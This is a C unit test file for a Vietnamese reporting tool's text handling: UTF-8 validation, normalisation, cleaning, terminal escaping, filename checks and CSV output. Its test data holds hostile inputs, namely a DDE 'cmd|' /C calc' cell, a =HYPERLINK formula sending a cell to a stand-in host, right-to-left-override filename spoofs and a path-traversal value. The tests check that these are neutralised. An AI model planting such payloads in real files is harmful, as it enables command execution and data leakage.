/* test_text.c: UTF-8 checks, NFC, character counts, folding and text_clean's rules. */
#include "testlib.h"

#include <utf8proc.h>

#include "i18n.h"
#include "report.h"
#include "template.h"
#include "text.h"

/* Lengths are given so that bytes after an embedded NUL, or a truncated tail, are seen. */
struct utf8_case {
	const char *name;
	const char *s;
	size_t len;
	bool valid;
};

#define U8(name, lit, valid) {name, lit, sizeof(lit) - 1, valid}

static void
test_utf8_valid(void **state)
{
	(void)state;
	static const struct utf8_case cases[] = {
		U8("empty", "", true),
		U8("ascii", "Bao cao 2024", true),
		U8("DEL is ASCII", "a\x7f", true),
		U8("control chars are UTF-8", "\x01\x1f\t\n", true),
		U8("two-byte", "\xc3\xa0", true),                 /* à */
		U8("three-byte", "Nguy\xe1\xbb\x85n", true),      /* Nguyễn */
		U8("four-byte", "\xf0\x9f\x98\x80", true),        /* U+1F600 */
		U8("last code point", "\xf4\x8f\xbf\xbf", true),  /* U+10FFFF */
		U8("before surrogates", "\xed\x9f\xbf", true),    /* U+D7FF */
		U8("after surrogates", "\xee\x80\x80", true),     /* U+E000 */
		U8("smallest two-byte", "\xc2\x80", true),
		U8("smallest three-byte", "\xe0\xa0\x80", true),
		U8("smallest four-byte", "\xf0\x90\x80\x80", true),
		U8("overlong NUL", "\xc0\x80", false),
		U8("overlong 2-byte", "\xc1\xbf", false),
		U8("overlong 3-byte", "\xe0\x80\x80", false),
		U8("overlong 3-byte high", "\xe0\x9f\xbf", false),
		U8("overlong 4-byte", "\xf0\x80\x80\x80", false),
		U8("overlong 4-byte high", "\xf0\x8f\xbf\xbf", false),
		U8("high surrogate", "\xed\xa0\x80", false),
		U8("low surrogate", "\xed\xbf\xbf", false),
		U8("above U+10FFFF", "\xf4\x90\x80\x80", false),
		U8("lead F5", "\xf5\x80\x80\x80", false),
		U8("lead F8", "\xf8\x88\x80\x80\x80", false),
		U8("lead FF", "\xff", false),
		U8("lead FE", "\xfe", false),
		U8("lone continuation", "\x80", false),
		U8("continuation after ascii", "a\xbf", false),
		U8("truncated 2-byte", "\xc3", false),
		U8("truncated 3-byte", "\xe1\xbb", false),
		U8("truncated 4-byte", "\xf0\x9f\x98", false),
		U8("truncated at end", "Nguy\xe1\xbb", false),
		U8("bad continuation", "\xc3\x28", false),
		U8("bad third byte", "\xe1\xbb\x28", false),
		U8("NUL byte", "a\0b", false),
		U8("NUL only", "\0", false),
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		if (utf8_valid(cases[i].s, cases[i].len) != cases[i].valid)
			fail_msg("utf8_valid(%s) should be %s", cases[i].name,
				 cases[i].valid ? "true" : "false");
}

/* Only the first len bytes count: an invalid byte past them does not. */
static void
test_utf8_valid_respects_length(void **state)
{
	(void)state;
	assert_true(utf8_valid("ab\xff", 2));
	assert_false(utf8_valid("ab\xff", 3));
	assert_true(utf8_valid("\xc3\xa0\xc3", 2));
	assert_false(utf8_valid("\xc3\xa0\xc3", 3));
}

static void
test_utf8_chars(void **state)
{
	(void)state;
	assert_int_equal(utf8_chars(""), 0);
	assert_int_equal(utf8_chars("abc"), 3);
	assert_int_equal(utf8_chars("Nguy\xe1\xbb\x85n"), 6);
	/* Decomposed: e, combining circumflex and combining tilde are three code points. */
	assert_int_equal(utf8_chars("Nguye\xcc\x82\xcc\x83n"), 8);
	assert_int_equal(utf8_chars("\xf0\x9f\x98\x80"), 1);
	assert_int_equal(utf8_chars("\xc4\x90\xc3\x80O"), 3); /* ĐÀO */
}

static void
test_nfc(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"Nguye\xcc\x82\xcc\x83n", "Nguy\xe1\xbb\x85n"}, /* Nguyễn */
		{"a\xcc\x80", "\xc3\xa0"},                       /* à */
		{"Tra\xcc\x82\xcc\x80n", "Tr\xe1\xba\xa7n"},     /* Trần */
		{"Vie\xcc\xa3\xcc\x82t", "Vi\xe1\xbb\x87t"},     /* Việt, dot below first */
		{"D\xcc\x9b", "D\xcc\x9b"},                      /* no precomposed form: kept */
		{"Nguy\xe1\xbb\x85n", "Nguy\xe1\xbb\x85n"},      /* already NFC */
		{"plain ascii", "plain ascii"},
		{"", ""},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		char *got = text_nfc(cases[i].in);
		assert_string_equal(got, cases[i].out);
		free(got);
	}
}

static void
test_fold(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} cases[] = {
		{"B\xe1\xba\xa1" "ch Mai", "bach mai"},          /* Bạch Mai */
		{"\xc4\x90\xc3\x80O", "dao"},                    /* ĐÀO */
		{"\xc4\x90", "d"},                               /* Đ */
		{"\xc4\x91", "d"},                               /* đ */
		{"\xc4\x90\xe1\xbb\x97 \xc4\x91\xe1\xbb\xa9" "c", "do duc"}, /* Đỗ đức */
		{"Nguye\xcc\x82\xcc\x83n", "nguyen"},            /* decomposed input */
		{"Nguy\xe1\xbb\x85n Th\xe1\xbb\x8b \xc3\x81nh", "nguyen thi anh"},
		{"\xc6\xa0 \xc6\xb0", "o u"},                    /* Ơ ư */
		{"ABC-123", "abc-123"},
		{"", ""},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		char *got = text_fold(cases[i].in);
		assert_string_equal(got, cases[i].out);
		free(got);
	}
}

/* Both spellings of a name find each other once folded. */
static void
test_fold_matches_search(void **state)
{
	(void)state;
	char *a = text_fold("B\xe1\xbb\x87nh vi\xe1\xbb\x87n B\xe1\xba\xa1" "ch Mai");
	char *b = text_fold("benh vien BACH MAI");
	assert_string_equal(a, b);
	free(a);
	free(b);
}

struct clean_case {
	const char *name;
	const char *in;
	enum text_kind kind;
	const char *out; /* NULL: refused */
};

static void
test_clean(void **state)
{
	(void)state;
	static const struct clean_case cases[] = {
		{"crlf in multiline", "a\r\nb", TEXT_MULTILINE, "a\nb"},
		{"several crlf", "a\r\nb\r\nc", TEXT_MULTILINE, "a\nb\nc"},
		{"crlf in one line", "a\r\nb", TEXT_LINE, NULL},
		{"lone cr", "a\rb", TEXT_MULTILINE, NULL},
		{"trim one line", "  Tr\xe1\xba\xa7n V\xc4\x83n A  ", TEXT_LINE,
		 "Tr\xe1\xba\xa7n V\xc4\x83n A"},
		{"tab in one line", "a\tb", TEXT_LINE, "a b"},
		{"tab at end of one line", "x\t", TEXT_LINE, "x"},
		{"tab at start of one line", "\tx", TEXT_LINE, "x"},
		{"tab kept in multiline", "a\tb", TEXT_MULTILINE, "a\tb"},
		{"newline in one line", "a\nb", TEXT_LINE, NULL},
		{"newline in multiline", "a\nb", TEXT_MULTILINE, "a\nb"},
		{"blank lines around multiline", "\n\nx\n\n", TEXT_MULTILINE, "x"},
		{"inner blank line kept", "a\n\nb", TEXT_MULTILINE, "a\n\nb"},
		{"trailing blanks of multiline", "x \t\n ", TEXT_MULTILINE, "x"},
		{"leading spaces of multiline kept", "  x", TEXT_MULTILINE, "  x"},
		{"only blanks", "   ", TEXT_LINE, ""},
		{"empty", "", TEXT_LINE, ""},
		{"control char", "a\x01" "b", TEXT_LINE, NULL},
		{"control char multiline", "a\x1b[0m", TEXT_MULTILINE, NULL},
		{"DEL", "a\x7f", TEXT_LINE, NULL},
		{"unit separator", "a\x1f" "b", TEXT_MULTILINE, NULL},
		{"escape", "\x1b", TEXT_LINE, NULL},
		{"last C1 control", "\xc2\x9f", TEXT_LINE, NULL},
		{"first after C1", "\xc2\xa1", TEXT_LINE, "\xc2\xa1"},
		{"space is not control", "a b", TEXT_LINE, "a b"},
		{"C1 control NEL", "a\xc2\x85" "b", TEXT_MULTILINE, NULL},
		{"line separator", "a\xe2\x80\xa8" "b", TEXT_MULTILINE, NULL},
		{"paragraph separator", "a\xe2\x80\xa9" "b", TEXT_LINE, NULL},
		{"invalid UTF-8", "a\xc3\x28", TEXT_LINE, NULL},
		{"overlong", "\xc0\xaf", TEXT_MULTILINE, NULL},
		{"surrogate", "\xed\xa0\x80", TEXT_LINE, NULL},
		{"decomposed becomes NFC", " Nguye\xcc\x82\xcc\x83n ", TEXT_LINE,
		 "Nguy\xe1\xbb\x85n"},
		{"NFC in multiline", "Tra\xcc\x82\xcc\x80n\r\nVa\xcc\x86n", TEXT_MULTILINE,
		 "Tr\xe1\xba\xa7n\nV\xc4\x83n"},
		{"non-breaking space kept", "a\xc2\xa0" "b", TEXT_LINE, "a\xc2\xa0" "b"},
		{"right-to-left override", "a\xe2\x80\xae" "cba", TEXT_LINE, NULL},
		{"left-to-right embedding", "\xe2\x80\xaa" "x", TEXT_MULTILINE, NULL},
		{"pop directional formatting", "x\xe2\x80\xac", TEXT_LINE, NULL},
		{"first strong isolate", "x\xe2\x81\xa8" "y", TEXT_MULTILINE, NULL},
		{"pop directional isolate", "x\xe2\x81\xa9", TEXT_LINE, NULL},
		{"decomposed text with an override", "e\xcc\x81\xe2\x80\xae", TEXT_LINE, NULL},
		{"right-to-left mark kept", "a\xe2\x80\x8f" "b", TEXT_LINE, "a\xe2\x80\x8f" "b"},
		{"en dash kept", "a\xe2\x80\x93" "b", TEXT_LINE, "a\xe2\x80\x93" "b"},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const char *why = NULL;
		char *got = text_clean(cases[i].in, cases[i].kind, &why);
		if (cases[i].out == NULL) {
			if (got != NULL)
				fail_msg("%s: accepted as \"%s\"", cases[i].name, got);
			if (why == NULL || why[0] == '\0')
				fail_msg("%s: refused without a reason", cases[i].name);
			continue;
		}
		if (got == NULL)
			fail_msg("%s: refused: %s", cases[i].name, why ? why : "?");
		if (strcmp(got, cases[i].out) != 0)
			fail_msg("%s: got \"%s\", wanted \"%s\"", cases[i].name, got, cases[i].out);
		free(got);
	}
}

/* The reason names the problem, in the interface language. */
static void
test_clean_reasons(void **state)
{
	(void)state;
	const char *why = NULL;
	assert_null(text_clean("a\nb", TEXT_LINE, &why));
	assert_non_null(strstr(why, "xuống dòng"));
	assert_null(text_clean("a\x02", TEXT_LINE, &why));
	assert_non_null(strstr(why, "điều khiển"));
	assert_null(text_clean("\xff", TEXT_LINE, &why));
	assert_non_null(strstr(why, "UTF-8"));
	ui_lang = LANG_EN;
	assert_null(text_clean("a\nb", TEXT_LINE, &why));
	assert_non_null(strstr(why, "line break"));
	assert_null(text_clean("a\x02", TEXT_MULTILINE, &why));
	assert_non_null(strstr(why, "control character"));
	/* A bidi control shows as nothing: the reason names it by its code point. */
	assert_null(text_clean("T\xe1\xbb\x95ng \xe2\x80\xae" "321", TEXT_LINE, &why));
	assert_non_null(strstr(why, "bidirectional"));
	assert_non_null(strstr(why, "U+202E"));
	ui_lang = LANG_VI;
	assert_null(text_clean("x\xe2\x81\xa6", TEXT_MULTILINE, &why));
	assert_non_null(strstr(why, "hướng chữ"));
	assert_non_null(strstr(why, "U+2066"));
}

/* Cleaning what was already cleaned changes nothing: stored text reads back the same. */
static void
test_clean_idempotent(void **state)
{
	(void)state;
	static const char *const inputs[] = {
		"  Nguye\xcc\x82\xcc\x83n\tTh\xe1\xbb\x8b  ",
		"\r\n\r\nD\xc3\xb2ng 1\r\n  D\xc3\xb2ng 2\t\r\n\r\n",
		"a \xcc\x81",
	};
	for (size_t i = 0; i < ARRAY_LEN(inputs); i++)
		for (int k = 0; k < 2; k++) {
			const char *why;
			enum text_kind kind = k ? TEXT_MULTILINE : TEXT_LINE;
			char *once = text_clean(inputs[i], kind, &why);
			if (once == NULL) /* a newline refused in one-line text */
				continue;
			char *twice = text_clean(once, kind, &why);
			assert_non_null(twice);
			assert_string_equal(once, twice);
			free(once);
			free(twice);
		}
}

/* The eight-bytes-at-a-time path: a NUL, a stray continuation byte or a cut sequence is found
 * at every position of a long ASCII text, and a valid letter anywhere is accepted. */
static void
test_utf8_valid_every_position(void **state)
{
	(void)state;
	char s[40];
	for (size_t at = 0; at + 3 < sizeof s; at++) {
		memset(s, 'a', sizeof s);
		assert_true(utf8_valid(s, sizeof s));
		s[at] = '\0';
		assert_false(utf8_valid(s, sizeof s));
		s[at] = (char)0x80;
		assert_false(utf8_valid(s, sizeof s));
		s[at] = (char)0xe1; /* "ệ" cut after its first byte */
		assert_false(utf8_valid(s, sizeof s));
		memcpy(s + at, "\xe1\xbb\x87", 3);
		assert_true(utf8_valid(s, sizeof s));
		assert_false(utf8_valid(s, at + 2)); /* the length cuts it */
	}
}

/* Long runs of ASCII go eight bytes at a time: a control character, DEL, a tab or CR LF at
 * any position is still seen. */
static void
test_clean_every_position(void **state)
{
	(void)state;
	char s[41];
	const char *why;
	for (size_t at = 1; at + 2 < sizeof s - 1; at++) {
		memset(s, 'x', sizeof s - 1);
		s[sizeof s - 1] = '\0';
		s[at] = '\x01';
		assert_null(text_clean(s, TEXT_MULTILINE, &why));
		s[at] = '\x7f';
		assert_null(text_clean(s, TEXT_MULTILINE, &why));
		s[at] = '\n';
		assert_null(text_clean(s, TEXT_LINE, &why));
		s[at] = '\t';
		char *c = text_clean(s, TEXT_LINE, &why);
		assert_non_null(c);
		assert_int_equal(c[at], ' ');
		assert_int_equal(strlen(c), sizeof s - 1);
		free(c);
		s[at] = '\r';
		s[at + 1] = '\n';
		c = text_clean(s, TEXT_MULTILINE, &why);
		assert_non_null(c);
		assert_int_equal(c[at], '\n');
		assert_int_equal(strlen(c), sizeof s - 2);
		free(c);
	}
}

/* Cursor steps move over whole characters, and stop at the ends. */
static void
test_utf8_steps(void **state)
{
	(void)state;
	const char *s = "a\xe1\xbb\x87\xf0\x9f\x98\x80" "b"; /* a, ệ (3 bytes), an emoji (4), b */
	size_t len = strlen(s);
	static const size_t stops[] = {0, 1, 4, 8, 9};
	for (size_t i = 0; i + 1 < ARRAY_LEN(stops); i++) {
		assert_int_equal(utf8_next(s, len, stops[i]), stops[i + 1]);
		assert_int_equal(utf8_prev(s, stops[i + 1]), stops[i]);
	}
	assert_int_equal(utf8_next(s, len, len), len);
	assert_int_equal(utf8_prev(s, 0), 0);
}

/* text_clean skips NFC for text made only of "stable" code points; that is right only if each
 * of them is NFC by itself, has combining class 0, and is never the second part of a
 * canonical composition (else "x" + stable "y" could compose). Checked over all of Unicode. */
static void
test_nfc_stable_set(void **state)
{
	(void)state;
	size_t nstable = 0;
	for (int32_t c = 1; c <= 0x10ffff; c++) {
		if (c >= 0xd800 && c <= 0xdfff)
			continue;
		utf8proc_int32_t d[8];
		int last = 0;
		utf8proc_ssize_t n = utf8proc_decompose_char(c, d, 8, UTF8PROC_DECOMPOSE, &last);
		assert_true(n >= 1);
		/* The parts after the first of a canonical decomposition are what composes. */
		for (utf8proc_ssize_t i = 1; i < n && i < 8; i++)
			if (text_nfc_stable((uint32_t)d[i]))
				fail_msg("U+%04X decomposes with U+%04X, marked stable", c, d[i]);
		if (!text_nfc_stable((uint32_t)c))
			continue;
		nstable++;
		assert_int_equal(utf8proc_get_property(c)->combining_class, 0);
		utf8proc_uint8_t in[5] = {0};
		utf8proc_encode_char(c, in);
		utf8proc_uint8_t *nfc = utf8proc_NFC(in);
		if (strcmp((char *)nfc, (char *)in) != 0)
			fail_msg("U+%04X is not NFC by itself", c);
		free(nfc);
	}
	assert_true(nstable > 0x300 + 90);
}

/* The fast path and full normalization agree on random text mixing stable letters, combining
 * marks and decomposed Vietnamese. */
static void
test_clean_fast_path_agrees(void **state)
{
	(void)state;
	static const char *const pieces[] = {
		"a", "A", "e", "o", "u", "y", " ", "\t", "\xc6\xa1", "\xc6\xb0", "\xc4\x91",
		"\xe1\xbb\x87", "\xe1\xba\xa1", "\xe1\xbb\xb9", "\xe2\x80\x94", "\xe2\x82\xab",
		"\xcc\x81", "\xcc\x80", "\xcc\x83", "\xcc\xa3", "\xcc\x89", "\xcc\x82", "\xcc\x9b",
		"\xe2\x84\xa6", "\xc3\x85", "\xef\xac\x80",
	};
	uint32_t seed = 12345;
	for (int i = 0; i < 20000; i++) {
		char s[64] = "";
		int len = 1 + (int)(seed % 6);
		for (int k = 0; k < len; k++) {
			seed = seed * 1103515245u + 12345u;
			strcat(s, pieces[(seed >> 8) % ARRAY_LEN(pieces)]);
		}
		const char *why;
		char *got = text_clean(s, TEXT_MULTILINE, &why);
		char *want = text_nfc(s);
		size_t end = strlen(want);
		while (end > 0 && (want[end - 1] == ' ' || want[end - 1] == '\t'))
			end--;
		want[end] = '\0';
		assert_non_null(got);
		assert_string_equal(got, want);
		free(got);
		free(want);
	}
}

/* What the command lines print from outside: every control, DEL, C1 control, bidi mark and
 * byte of invalid UTF-8 escaped; everything else, Vietnamese included, as it is. */
static void
test_terminal(void **state)
{
	(void)state;
	static const char *const cases[][2] = {
		{"", ""},
		{"Bệnh viện Bạch Mai", "Bệnh viện Bạch Mai"},
		{"a\\b", "a\\b"},
		{"x\x1b[31mred", "x\\x1b[31mred"},
		{"tab\tnl\ncr\r", "tab\\tnl\\ncr\\r"},
		{"del\x7f", "del\\x7f"},
		{"\x01\x1f", "\\x01\\x1f"},
		{"c1 \xc2\x9b" "31m", "c1 \\u009b31m"},
		{"nel\xc2\x85", "nel\\u0085"},
		{"nbsp\xc2\xa0", "nbsp\xc2\xa0"},
		{"evil\xe2\x80\xae" "fdp.xhht", "evil\\u202efdp.xhht"},
		{"\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad", "\\u202a\\u202b\\u202c\\u202d"},
		{"\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9", "\\u2066\\u2067\\u2068\\u2069"},
		{"\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c", "\\u200e\\u200f\\u061c"},
		{"ls\xe2\x80\xa8ps\xe2\x80\xa9", "ls\\u2028ps\\u2029"},
		{"bad\xff\xc3", "bad\\xff\\xc3"},
		{"overlong\xc0\xaf", "overlong\\xc0\\xaf"},
		{"surrogate\xed\xa0\x80", "surrogate\\xed\\xa0\\x80"},
		{"emoji\xf0\x9f\x98\x80", "emoji\xf0\x9f\x98\x80"},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		char *got = text_terminal(cases[i][0]);
		if (strcmp(got, cases[i][1]) != 0)
			fail_msg("case %zu: got \"%s\", wanted \"%s\"", i, got, cases[i][1]);
		free(got);
	}
	/* Over all of Unicode: the escaped form holds no hostile code point and is valid UTF-8,
	 * and only the hostile ones change. */
	for (uint32_t cp = 1; cp <= 0x10ffff; cp++) {
		if (cp >= 0xd800 && cp <= 0xdfff)
			continue;
		utf8proc_uint8_t in[5] = {0};
		utf8proc_encode_char((utf8proc_int32_t)cp, in);
		char *got = text_terminal((const char *)in);
		bool same = strcmp(got, (const char *)in) == 0;
		if (same == text_hostile_cp(cp))
			fail_msg("U+%04X: \"%s\"", cp, got);
		if (!same)
			for (const char *p = got; *p; p++)
				if (*p < 0x20 || *p > 0x7e)
					fail_msg("U+%04X escaped to a non-ASCII byte", cp);
		free(got);
	}
	/* Random bytes: what comes out is valid UTF-8 holding no hostile code point. */
	uint32_t seed = 4242;
	for (int i = 0; i < 20000; i++) {
		unsigned char in[24];
		size_t n = 1 + i % 23;
		for (size_t k = 0; k < n; k++) {
			seed = seed * 1103515245u + 12345u;
			in[k] = (unsigned char)(seed >> 16);
			if (in[k] == 0)
				in[k] = 0xe2; /* the lead byte of the bidi marks, more often */
		}
		in[n] = 0;
		char *got = text_terminal((const char *)in);
		assert_true(utf8_valid(got, strlen(got)));
		for (const char *p = got; *p;) {
			utf8proc_int32_t cp;
			utf8proc_ssize_t k = utf8proc_iterate((const utf8proc_uint8_t *)p, -1, &cp);
			assert_true(k > 0);
			if (text_hostile_cp((uint32_t)cp))
				fail_msg("U+%04X left in the escaped form of random bytes", (unsigned)cp);
			p += k;
		}
		free(got);
	}
}

/* The unit code alphabet, the file-name part made from outside text, and attachment names. */
static void
test_names(void **state)
{
	(void)state;
	static const char *const good_codes[] = {"BVDKM", "U0001", "bv-bach_mai.2", "9",
						 "A2345678901234567890123456789012"};
	static const char *const bad_codes[] = {"",	 "-BV",	 ".BV", "_BV", ".",   "..",
						"...",	 "B V",	 "B/V", "B\\V", "BV\x1b", "B\xc3\x80",
						"A23456789012345678901234567890123"};
	for (size_t i = 0; i < ARRAY_LEN(good_codes); i++)
		if (!text_unit_code_ok(good_codes[i]))
			fail_msg("code \"%s\" refused", good_codes[i]);
	for (size_t i = 0; i < ARRAY_LEN(bad_codes); i++)
		if (text_unit_code_ok(bad_codes[i]))
			fail_msg("code \"%s\" accepted", bad_codes[i]);

	static const char *const parts[][2] = {
		{"BVDKM", "BVDKM"}, {"bv-1_x", "bv-1_x"}, {"a.b", "a_b"}, {"-x", "_x"},
		{"../etc", "___etc"}, {"", "_"}, {"x\x1b\xe2\x80\xae", "x____"},
	};
	for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
		char out[16];
		text_filename_part(parts[i][0], out, sizeof out);
		assert_string_equal(out, parts[i][1]);
	}
	char small[4];
	text_filename_part("ABCDEFG", small, sizeof small);
	assert_string_equal(small, "ABC");

	static const char *const good_names[] = {"scan.pdf", "Quyết định 2024.pdf", ".scan.pdf",
						 "a - b.png", "x.", "a..b.jpg"};
	static const char *const bad_names[] = {
		"", "-rf.pdf", " a.pdf", ".", "..", "....", "a/b.pdf", "a\\b.pdf", "a\x1b.pdf",
		"a\tb.pdf", "a\x7f.pdf", "a\xc2\x85.pdf", "evil\xe2\x80\xae" "fdp.pdf",
		"a\xe2\x81\xa9.pdf", "a\xe2\x80\x8e.pdf", "a\xd8\x9c.pdf", "a\xe2\x80\xa8.pdf",
		"a\xff.pdf",
	};
	for (size_t i = 0; i < ARRAY_LEN(good_names); i++)
		if (!text_attachment_name_ok(good_names[i], NULL))
			fail_msg("name \"%s\" refused", good_names[i]);
	for (size_t i = 0; i < ARRAY_LEN(bad_names); i++) {
		const char *why = NULL;
		if (text_attachment_name_ok(bad_names[i], &why) || why == NULL || why[0] == '\0')
			fail_msg("name %zu accepted, or refused without a reason", i);
	}
	char longname[202];
	memset(longname, 'a', 201);
	longname[201] = '\0';
	assert_false(text_attachment_name_ok(longname, NULL));
	longname[200] = '\0';
	assert_true(text_attachment_name_ok(longname, NULL));
}

/* CSV text cells that a spreadsheet would run as a formula are written as text; others as
 * RFC 4180 wants. */
static void
test_csv_cells(void **state)
{
	(void)state;
	static const char *const cases[][2] = {
		{"", ""},
		{"Bạch Mai", "Bạch Mai"},
		{"a,b", "\"a,b\""},
		{"say \"hi\"", "\"say \"\"hi\"\"\""},
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")",
		 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Xem\"\")\""},
		{"=1+1", "\"'=1+1\""},
		{"+84 912", "\"'+84 912\""},
		{"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
		{"@SUM(A1)", "\"'@SUM(A1)\""},
		{"\t=1", "\"'\t=1\""},
		{"\r=1", "\"'\r=1\""},
		{"a=b", "a=b"},
		{" =1", " =1"},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct buf b;
		buf_init(&b);
		buf_csv(&b, cases[i][0]);
		if (strcmp(b.data, cases[i][1]) != 0)
			fail_msg("\"%s\": got %s, wanted %s", cases[i][0], b.data, cases[i][1]);
		buf_free(&b);
	}
}

/* A report's CSV: a text value that is a formula comes out as text, a number (negative too,
 * as a template with a negative minimum allows) as a number. */
static void
test_csv_report(void **state)
{
	(void)state;
	struct store *db = test_db();
	struct report *r = NULL;
	struct err e = {0};
	struct buf b;
	char *read = test_file("tests/data/bao-cao-mau.json", NULL);
	char *sample = xstrdup(read); /* GCC's dangling-pointer check is lost in test_file */
	free(read);
	const char *from = "\"Trần Quốc Khánh\"";
	const char *at = strstr(sample, from);
	assert_non_null(at);
	size_t off = (size_t)(at - sample);
	char *json = xasprintf("%.*s\"=HYPERLINK(\\\"http://x.example\\\",\\\"Xem\\\")\"%s",
			       (int)off, sample, sample + off + strlen(from));
	if (report_from_json(db, json, strlen(json), 2024, &r, &e) != ST_OK)
		fail_msg("report_from_json: %s", e.msg);
	size_t i;
	for (i = 0; i < r->t->nfields; i++)
		if (strcmp(r->t->fields[i].id, "chung.tong_so_nguoi") == 0)
			break;
	assert_true(i < r->t->nfields);
	assert_int_equal(r->values[i].k, V_INT);
	r->values[i].i = -5;
	buf_init(&b);
	report_to_csv(r, &b);
	if (strstr(b.data, ",\"'=HYPERLINK(\"\"http://x.example\"\",\"\"Xem\"\")\"\r\n") == NULL)
		fail_msg("formula not guarded:\n%s", b.data);
	if (strstr(b.data, ",=HYPERLINK") != NULL || strstr(b.data, ",\"=HYPERLINK") != NULL)
		fail_msg("formula written as a formula");
	const char *row = strstr(b.data, ",chung.tong_so_nguoi,");
	assert_non_null(row);
	const char *eol = strstr(row, "\r\n");
	assert_non_null(eol);
	if (eol - row < 3 || strncmp(eol - 3, ",-5", 3) != 0)
		fail_msg("negative number not written as a number: %.*s", (int)(eol - row), row);
	buf_free(&b);
	report_free(r);
	free(json);
	free(sample);
	store_close(db);
}

/* The programs' own UTF-8 (the full screen's drawing and typing): each code point and its
 * bytes both ways, and what is not UTF-8 refused, with no locale involved. */
static void
test_utf8_decode_encode(void **state)
{
	(void)state;
	static const struct {
		uint32_t cp;
		const char *bytes;
	} cases[] = {{0x41, "A"},
		     {0xe9, "\xc3\xa9"},
		     {0x111, "\xc4\x91"},      /* đ */
		     {0x1ebf, "\xe1\xba\xbf"}, /* ế */
		     {0x20ac, "\xe2\x82\xac"},
		     {0xfffe, "\xef\xbf\xbe"}, /* noncharacters are code points all the same */
		     {0xffff, "\xef\xbf\xbf"},
		     {0x1f600, "\xf0\x9f\x98\x80"},
		     {0x10ffff, "\xf4\x8f\xbf\xbf"}};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		char out[5] = {0};
		size_t n = utf8_encode(cases[i].cp, out);
		assert_int_equal(n, strlen(cases[i].bytes));
		assert_memory_equal(out, cases[i].bytes, n);
		size_t len;
		assert_int_equal(utf8_decode(cases[i].bytes, &len), cases[i].cp);
		assert_int_equal(len, n);
	}
	char out[4];
	assert_int_equal(utf8_encode(0xd800, out), 0); /* a surrogate */
	assert_int_equal(utf8_encode(0x110000, out), 0);
	static const char *const bad[] = {"", "\xc3", "\xc3(", "\xed\xa0\x80", "\xc0\xaf",
					   "\xf4\x90\x80\x80", "\x80", "\xe1\xba"};
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		size_t len = 99;
		utf8_decode(bad[i], &len);
		assert_int_equal(len, 0);
	}
	/* A string walks letter by letter. */
	const char *s = "Đào";
	uint32_t got[4];
	size_t k = 0, len;
	for (uint32_t cp; (cp = utf8_decode(s, &len), len != 0); s += len)
		got[k++] = cp;
	assert_int_equal(k, 3);
	assert_int_equal(got[0], 0x110);
	assert_int_equal(got[1], 0xe0);
	assert_int_equal(got[2], 'o');
}

static int
by_key(const void *a, const void *b, void *ctx)
{
	const int *keys = ctx;
	return keys[*(const size_t *)a] - keys[*(const size_t *)b];
}

/* sort_with hands its context to every comparison (qsort_r on Linux, qsort_s on Windows, whose
 * comparison takes its arguments in another order). */
static void
test_sort_with(void **state)
{
	(void)state;
	int keys[] = {30, 10, 50, 20, 40};
	size_t order[] = {0, 1, 2, 3, 4};
	sort_with(order, 5, sizeof *order, by_key, keys);
	size_t want[] = {1, 3, 0, 4, 2};
	assert_memory_equal(order, want, sizeof want);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_utf8_valid),
		cmocka_unit_test(test_utf8_decode_encode),
		cmocka_unit_test(test_sort_with),
		cmocka_unit_test(test_utf8_valid_respects_length),
		cmocka_unit_test(test_utf8_chars),
		cmocka_unit_test(test_nfc),
		cmocka_unit_test(test_fold),
		cmocka_unit_test(test_fold_matches_search),
		cmocka_unit_test(test_clean),
		cmocka_unit_test(test_clean_reasons),
		cmocka_unit_test(test_clean_idempotent),
		cmocka_unit_test(test_utf8_valid_every_position),
		cmocka_unit_test(test_clean_every_position),
		cmocka_unit_test(test_utf8_steps),
		cmocka_unit_test(test_nfc_stable_set),
		cmocka_unit_test(test_clean_fast_path_agrees),
		cmocka_unit_test(test_terminal),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_csv_cells),
		cmocka_unit_test(test_csv_report),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
